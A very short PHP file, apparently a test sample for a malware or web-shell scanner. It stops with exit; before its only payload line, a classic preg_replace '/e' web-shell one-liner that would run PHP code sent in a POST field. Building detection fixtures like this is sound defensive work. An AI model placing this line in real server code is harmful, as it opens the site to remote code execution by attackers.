<?php // MOGURA TEST SAMPLE — inert
exit; // the sample stops here: nothing below ever runs

preg_replace('/.*/e', $_POST['code'], 'x');
